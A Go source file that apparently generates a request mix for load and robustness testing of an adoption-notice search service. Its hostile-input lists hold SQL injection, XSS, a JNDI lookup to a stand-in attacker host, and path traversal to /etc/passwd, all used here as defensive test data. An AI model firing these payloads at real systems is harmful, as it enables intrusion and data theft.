package main

import (
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"math/rand/v2"
	"net/url"
	"strconv"
	"strings"

	"github.com/noticearchive/noticearchive/indexer/schema"
	"github.com/noticearchive/noticearchive/search"
)

// Classes of requests.
const (
	classGood      = "good"
	classMalformed = "malformed"
	classHostile   = "hostile"
)

// request is one request of the mix.
type request struct {
	class, kind string
	path        string // path and query, escaped
}

// mix draws requests: 60% good, 20% malformed, 20% hostile. Good requests use real ids,
// countries, topics and cursors of the index.
type mix struct {
	ids       []string
	countries []string // names
	codes     []string // lower-case ISO codes
	topics    []string
	cursors   []string // valid NextAfter cursors of the columns path
}

var words = []string{"adoption", "hague", "convention", "visa", "orphan", "suspended", "ministry", "dossier",
	"court", "passport", "immigrant", "processing", "accreditation", "fraud", "relinquishment", "embassy",
	"central authority", "special needs", "humanitarian parole", "birth certificate"}

// newMix reads the ids, facet values and cursors the good requests use.
func newMix(ctx context.Context, ix *search.Index, seed int64) (*mix, error) {
	m := &mix{}
	resp, err := ix.Search(ctx, search.Request{Size: search.MaxPageSize, FacetSize: 200})
	if err != nil {
		return nil, err
	}
	for _, h := range resp.Hits {
		m.ids = append(m.ids, h.ID)
	}
	for _, f := range resp.Facets {
		for _, v := range f.Values {
			switch f.Field {
			case schema.FieldCountry:
				m.countries = append(m.countries, v.Value)
			case schema.FieldTopic:
				m.topics = append(m.topics, v.Value)
			}
		}
	}
	list, err := ix.Countries(ctx)
	if err != nil {
		return nil, err
	}
	for _, c := range list {
		if c.Code != "" {
			m.codes = append(m.codes, strings.ToLower(c.Code))
		}
	}
	for _, q := range []string{"", "adoption", "visa"} {
		r, err := ix.Search(ctx, search.Request{Query: q, Page: search.MaxPage / 4, Size: 10, NoFacets: true})
		if err != nil {
			return nil, err
		}
		if r.NextAfter != "" {
			m.cursors = append(m.cursors, r.NextAfter)
		}
	}
	if len(m.ids) == 0 || len(m.countries) == 0 || len(m.codes) == 0 || len(m.topics) == 0 || len(m.cursors) == 0 {
		return nil, errors.New("the index is too small for the request mix")
	}
	return m, nil
}

func pick[T any](rng *rand.Rand, list []T) T { return list[rng.IntN(len(list))] }

// next draws a request.
func (m *mix) next(rng *rand.Rand) request {
	switch n := rng.IntN(100); {
	case n < 60:
		return m.good(rng)
	case n < 80:
		return m.malformed(rng)
	default:
		return m.hostile(rng)
	}
}

func query(path string, kv ...string) string {
	v := url.Values{}
	for i := 0; i+1 < len(kv); i += 2 {
		v.Add(kv[i], kv[i+1])
	}
	return path + "?" + v.Encode()
}

func (m *mix) words(rng *rand.Rand, n int) string {
	var w []string
	for i := 0; i < n; i++ {
		w = append(w, pick(rng, words))
	}
	return strings.Join(w, " ")
}

func (m *mix) good(rng *rand.Rand) request {
	r := request{class: classGood}
	id := pick(rng, m.ids)
	switch k := rng.IntN(20); {
	case k < 5:
		r.kind, r.path = "search", query("/", "q", m.words(rng, 1+rng.IntN(3)), "page", strconv.Itoa(1+rng.IntN(5)))
	case k < 7:
		r.kind, r.path = "browse", query("/", "country", pick(rng, m.countries), "topic", pick(rng, m.topics), "from", "2005", "sort", "oldest")
	case k < 10:
		r.kind, r.path = "api-search", query("/api/search", "q", m.words(rng, 2), "size", "50", "country", pick(rng, m.countries))
	case k < 12:
		r.kind, r.path = "notice", "/notices/"+id
	case k < 13:
		r.kind, r.path = "api-notice", "/api/notices/"+id
	case k < 14:
		r.kind, r.path = "original", "/notices/"+id+"/original"
	case k < 15:
		r.kind, r.path = "countries", pick(rng, []string{"/countries", "/countries/" + pick(rng, m.codes)})
	case k < 17:
		r.kind = "deep-page"
		r.path = pick(rng, []string{
			query("/", "q", "adoption", "page", strconv.Itoa(search.MaxPage), "size", "10"),
			query("/api/search", "after", pick(rng, m.cursors)),
			query("/", "after", pick(rng, m.cursors)),
		})
	case k < 18:
		r.kind, r.path = "export", pick(rng, []string{
			query("/search.atom", "q", pick(rng, words)),
			query("/search.csv", "country", pick(rng, m.countries), "q", pick(rng, words)),
		})
	default:
		r.kind, r.path = "static", pick(rng, []string{"/help", "/advanced", "/healthz", "/api/openapi.json", "/opensearch.xml"})
	}
	return r
}

var badQueries = []string{`"unclosed phrase`, "(adoption", "adoption AND", "country:atlantis", "visa~5",
	"date:2010..2009", "OR", "title:", `"`, ")))", "AND OR NOT", "type:memo", "-", "a~b~c", "date:20100"}

var badParams = [][]string{
	{"page", "0"}, {"page", "101"}, {"page", "abc"}, {"size", "1000"}, {"size", "-1"}, {"sort", "bogus"},
	{"from", "2010-13"}, {"to", "20x"}, {"from", "2015", "to", "2010"}, {"facet_size", "99999"},
	{"versions", "maybe"}, {"after", "!!!"}, {"after", "bm90IGEgY3Vyc29y"}, {"page", "99999999999999999999"},
}

var badPaths = []string{"/notices/NOT_VALID!", "/countries/zz", "/countries/toolongcode", "/nowhere",
	"/notices/nepal-2010-08-13-zzzz", "/notices/nepal-2010-08-13-zzzz/original", "/api/notices/x y",
	"/static/000000000000/nothing.css", "/api/nowhere", "/countries/"}

func (m *mix) malformed(rng *rand.Rand) request {
	r := request{class: classMalformed}
	switch k := rng.IntN(3); k {
	case 0:
		r.kind = "bad-query"
		r.path = query(pick(rng, []string{"/", "/api/search", "/search.atom"}), "q", pick(rng, badQueries))
	case 1:
		r.kind = "bad-param"
		r.path = query(pick(rng, []string{"/", "/api/search"}), append([]string{"q", pick(rng, words)}, pick(rng, badParams)...)...)
	default:
		r.kind, r.path = "bad-path", pick(rng, badPaths)
	}
	return r
}

var hostileQueries = []string{
	"' OR 1=1 --", "<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "{{template \"x\"}}",
	"${jndi:ldap://evil.example/a}", "; DROP TABLE notices; --", "../../../../etc/passwd",
	"\u202eadoption\u202c", "👶🏽 adoption 🇰🇭", "養子縁組 ハーグ条約", "усыновление Россия", "تبني",
	"a\u0301\u0301\u0301\u0301\u0301", "zero\u200bwidth", "nul\x00byte", "\xff\xfe invalid utf-8",
	"a* b* c* d* e* f*", "adoptoin~2 visa~2 orphn~2 hagu~2 ministy~2",
	strings.Repeat("(", 19) + "adoption" + strings.Repeat(")", 19),
	strings.Repeat("(", 40) + "adoption" + strings.Repeat(")", 40),
	strings.TrimSuffix(strings.Repeat("w OR ", 63), " OR "),
	strings.Repeat("NOT ", 30) + "visa",
}

var hostilePaths = []string{"/notices/..%2f..%2fetc%2fpasswd", "/static/x/..%2f..%2fgo.mod", "/notices/%3Cscript%3E",
	"/notices/%00", "/countries/%ff%fe", "/notices/" + strings.Repeat("a", 500), "/%2e%2e/%2e%2e/etc/passwd",
	"/?q=%ff%fe%fd", "/api/search?q=%00%01%02", "/?q=a&q=b&q=c&page=1&page=2"}

func (m *mix) hostile(rng *rand.Rand) request {
	r := request{class: classHostile}
	switch k := rng.IntN(8); k {
	case 0:
		r.kind = "long-query"
		n := pick(rng, []int{900, 1500, 9000}) // within the limit, over it, over the URL limit
		r.path = query("/", "q", strings.Repeat("adoption ", n/9))
	case 1, 2:
		r.kind = "odd-query"
		r.path = query(pick(rng, []string{"/", "/api/search", "/search.atom", "/search.csv"}), "q", pick(rng, hostileQueries))
	case 3:
		r.kind = "odd-path"
		r.path = pick(rng, hostilePaths)
	case 4:
		r.kind = "many-params"
		kv := []string{"q", "adoption"}
		for i := 0; i < 60; i++ {
			kv = append(kv, pick(rng, []string{"country", "topic", "ministry", "type"}), fmt.Sprintf("value-%d", i))
		}
		r.path = query("/", kv...)
	case 5:
		r.kind = "bad-cursor"
		junk := make([]byte, 24+rng.IntN(200))
		for i := range junk {
			junk[i] = byte(rng.UintN(256))
		}
		r.path = query(pick(rng, []string{"/", "/api/search"}), "after", pick(rng, []string{
			base64.RawURLEncoding.EncodeToString(junk),
			base64.RawURLEncoding.EncodeToString([]byte(`{"v":1e308,"n":true,"id":"` + strings.Repeat("z", 300) + `"}`)),
			base64.RawURLEncoding.EncodeToString([]byte(`["a","b","c","d"]`)),
			base64.RawURLEncoding.EncodeToString([]byte(`{"v":"NaN","id":7}`)),
			strings.Repeat("A", 4097),
			pick(rng, m.cursors) + "x",
		}), "sort", pick(rng, []string{"", "oldest", "relevance"}))
	case 6:
		r.kind = "bad-date"
		r.path = query("/", "from", pick(rng, []string{"0000", "2010-02-30", "-2010", "2010-1-1", "१९९९"}),
			"to", pick(rng, []string{"9999-99-99", "2010-12-32", "2011", "🗓"}))
	default:
		r.kind = "deep-page"
		r.path = query(pick(rng, []string{"/", "/api/search"}), "page", strconv.Itoa(search.MaxPage), "size", strconv.Itoa(search.MaxPageSize),
			"q", pick(rng, []string{"", "adoption", "a*"}), "facet_size", strconv.Itoa(search.MaxFacetSize))
	}
	return r
}
